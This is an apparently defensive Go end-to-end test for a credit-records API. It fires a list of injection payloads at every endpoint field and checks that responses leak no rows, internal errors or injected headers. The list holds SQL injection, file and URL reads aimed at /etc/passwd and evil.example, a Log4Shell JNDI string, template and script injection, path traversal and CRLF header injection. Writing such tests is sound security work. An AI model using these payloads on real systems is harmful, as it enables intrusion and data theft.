package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/url"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/reflect/protoreflect"

	"github.com/chengxin-credit/chengxin/internal/testkit"
)

// payloads are what attackers write where a name is asked for.
var payloads = []string{
	`";--`, `'`, `' OR '1'='1`, `'); DROP TABLE records;--`, `') UNION ALL SELECT name FROM system.tables--`, `\' OR 1=1 --`, `1; SELECT sleep(3)`,
	`file('/etc/passwd')`, `url('http://evil.example/x','CSV')`, `{db:Identifier}`, `${jndi:ldap://evil.example/x}`, `{{7*7}}`, `#{7*7}`, `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`,
	"a\x00b", "%00", `../../../../etc/passwd`, `..\..\..\windows\win.ini`, "/etc/passwd", "a\r\nSet-Cookie: x=1", "\u202eabc\ufeff", "%", "_", "*", "**", "g/../x",
	"inbox.wl-trade", "__consumer_offsets", "records", "-1", "1e309", "9223372036854775808", "NaN", "null", "true", "[]", `{"$gt":""}`, "\U0001F469\u200d\U0001F467", "e\u0301",
	strings.Repeat("A", 60), strings.Repeat("长", 5000), strings.Repeat("(", 3000), strings.Repeat(`\`, 1999),
}

const marker = "注入试验标记有限公司"

// injection writes every payload into every string of every endpoint, each as a caller who may use the endpoint.
func (w *world) injection(t *testing.T) {
	w.pusher.push(t, "penalty", ndjson(t, penalty("注1号").with("CF_XDR_MC", marker), penalty("注2号").with("CF_NR_FK", nil))).counts(t, "1", "1")
	w.find(t, w.officer, acme, "注1号")
	callers := []client{w.pusher, w.officer, w.auditAdmin, w.auditor, w.security, w.sysAdmin, w.person(t, fmt.Sprintf("catalog%d", time.Now().UnixNano()%1e6), "lc-amr", "catalog_manager")}
	may := make([]map[string]bool, len(callers))
	for i, c := range callers {
		may[i] = c.actions(t)
	}
	for _, r := range routes(t) {
		c := client{s: w.system}
		if r.need.GetAuthenticated() {
			c = w.officer
		}
		if strings.Contains(r.template, "records:") {
			c = w.pusher
		}
		for i := range callers {
			if a := r.need.GetAction(); a != "" && may[i][a] {
				c = callers[i]
			}
		}
		if r.template != "/v1/sessions/current" {
			w.injectRoute(t, c, r)
		}
	}
	w.injectRecords(t)
	w.find(t, w.officer, acme, "注1号") // everything still stands and answers
}

// injectRoute tries the path, then every string of the query or the body.
func (w *world) injectRoute(t *testing.T, c client, r route) {
	for _, v := range variable.FindAllStringSubmatch(r.template, -1) {
		for _, p := range payloads {
			for _, text := range []string{url.PathEscape(p), url.PathEscape(url.PathEscape(p))} {
				a := c.patient(t, r.method, r.path(map[string]string{v[1]: text}), func() io.Reader { b, _ := r.body(); return b }, "Content-Type", "application/json")
				w.harmless(t, fmt.Sprintf("%s with %.60q for %s", r, p, v[1]), v[1], p, a)
			}
		}
	}
	if r.input == nil {
		return
	}
	for i := range r.input.Fields().Len() {
		f := r.input.Fields().Get(i)
		for _, p := range payloads {
			what := fmt.Sprintf("%s with %.60q for %s", r, p, f.Name())
			if r.method == "GET" {
				a := c.patient(t, r.method, r.path(nil)+"?"+url.Values{string(f.Name()): {p}}.Encode(), func() io.Reader { return nil })
				w.harmless(t, what, string(f.Name()), p, a)
				continue
			}
			for _, value := range filled(f, p) {
				in := valid(r)
				in[string(f.Name())] = value
				body, err := json.Marshal(in)
				if err != nil {
					t.Fatal(err)
				}
				a := c.patient(t, r.method, r.path(nil), func() io.Reader { return strings.NewReader(string(body)) }, "Content-Type", "application/json")
				w.harmless(t, what, string(f.Name()), p, a)
			}
		}
	}
}

// filled puts a payload into a field: the field itself, or every string of the messages in it.
func filled(f protoreflect.FieldDescriptor, payload string) []any {
	wrap := func(v any) any {
		if f.IsList() {
			return []any{v}
		}
		return v
	}
	if f.Message() == nil || f.Message().FullName() == "google.protobuf.Timestamp" {
		return []any{wrap(payload)}
	}
	var out []any
	for i := range f.Message().Fields().Len() {
		m := map[string]any{"type": "p", "subject": "nobody", "domain": "lc-amr", "object": "resource/x", "action": "record.query", "effect": "allow", "fields": "public", "scope": "own"}
		m[string(f.Message().Fields().Get(i).Name())] = payload
		out = append(out, wrap(m))
	}
	return out
}

var nth int

// valid is a request that the endpoint takes, as far as one can be taken again and again, so that payloads get past the first check.
func valid(r route) map[string]any {
	nth++
	in := map[string]any{}
	switch r.template {
	case "/v1/sessions":
		in = map[string]any{"name": fmt.Sprintf("inject%d", nth), "password": password}
	case "/v1/me/password":
		in = map[string]any{"old_password": "wrong horse battery 9", "new_password": "another horse battery 10"}
	case "/v1/enrolments:redeem":
		in = map[string]any{"token": "cxe_" + strings.Repeat("a7", 16), "password": password}
	case "/v1/agencies":
		in = map[string]any{"code": "inject", "name": "注入", "division": "371500", "kind": "both"}
	case "/v1/people":
		in = map[string]any{"name": fmt.Sprintf("inject%d", nth), "display_name": "x", "agency": "lc-amr"}
	case "/v1/keys":
		in = map[string]any{"agency": "inject", "label": "x"}
	case "/v1/policies":
		in = map[string]any{"why": "inject"}
	case "/v1/policies:explain":
		in = map[string]any{"principal": "nobody", "action": "record.query", "object": "resource/penalty", "purpose": "enforcement"}
	case "/v1/subjects:search":
		in = map[string]any{"query": "没有这家公司"}
	case "/v1/subjects:profile":
		in = map[string]any{"id": "nobody", "purpose": "enforcement", "case_no": caseNo}
	case "/v1/catalog/resources":
		in = map[string]any{"yaml": "code: inject", "why": "x"}
	}
	return in
}

// filters are the fields that choose which rows an answer shows.
var filters = map[string]bool{"query": true, "id": true, "subject": true, "agency": true, "resource": true, "receipt": true, "state": true, "actor": true, "purpose": true,
	"case_no": true, "decision": true, "kind": true, "code": true}

// harmless holds an answer to a payload: no error of ours, no text from inside, no rows that the payload let out.
func (w *world) harmless(t *testing.T, what, field, payload string, a answer) {
	t.Helper()
	a.clean(t, what, payload, url.PathEscape(payload))
	told := string(a.raw)
	if a.status == 200 && filters[field] && payload != "null" && payload != "true" && (strings.Contains(told, acme) || strings.Contains(told, marker) || strings.Contains(told, personID)) {
		t.Errorf("%s lets rows out: %.400s", what, told)
	}
	if a.header.Get("Set-Cookie") != "" {
		t.Errorf("%s: the payload made a header", what)
	}
}

// injectRecords writes every payload into every item of a penalty; whatever is accepted comes out as it went in.
func (w *world) injectRecords(t *testing.T) {
	a := w.pusher.must(t, "GET", "/v1/catalog/resources/penalty", nil)
	number := 0
	for i := range a.list("items") {
		name := a.str("items", i, "name")
		var batch []item
		for _, p := range payloads {
			number++
			batch = append(batch, penalty(fmt.Sprintf("注入%d号", number)).with(name, p))
		}
		got := w.pusher.push(t, "penalty", ndjson(t, batch...), "Idempotency-Key", fmt.Sprintf("inject-%s", name))
		got.clean(t, "push with payloads in "+name, payloads...)
		if got.status != 200 || got.str("total") != fmt.Sprint(len(payloads)) || got.str("state") != "complete" {
			t.Errorf("payloads in %s: %d %.500s", name, got.status, got.raw)
		}
	}
	odd := `'); DROP TABLE records;--<script>${jndi:x}{{7*7}}`
	w.pusher.push(t, "penalty", ndjson(t, penalty("注入奇号").with("CF_NR", odd))).counts(t, "1", "0")
	testkit.Eventually(t, 60*time.Second, "the record with the odd text", func() bool {
		p := w.officer.profile(t, acme, ask(""))
		p.clean(t, "profile of the attacked subject", payloads...)
		r := record(p, "注入奇号")
		if r == nil {
			return false
		}
		if got := text(field(r, "CF_NR")["value"]); got != odd {
			t.Errorf("the text came out as %q", got)
		}
		return true
	})
	for _, h := range []string{"resource", "Idempotency-Key"} {
		for _, p := range []string{"a b", strings.Repeat("k", 300), "密钥", "';--"} {
			a, err := w.pusher.try("POST", "/v1/resources/penalty/records:push", strings.NewReader(ndjson(t, penalty("注入键号"))), "Content-Type", "application/x-ndjson", h, p)
			if err == nil {
				a.clean(t, h+": "+p, p)
			}
		}
	}
}
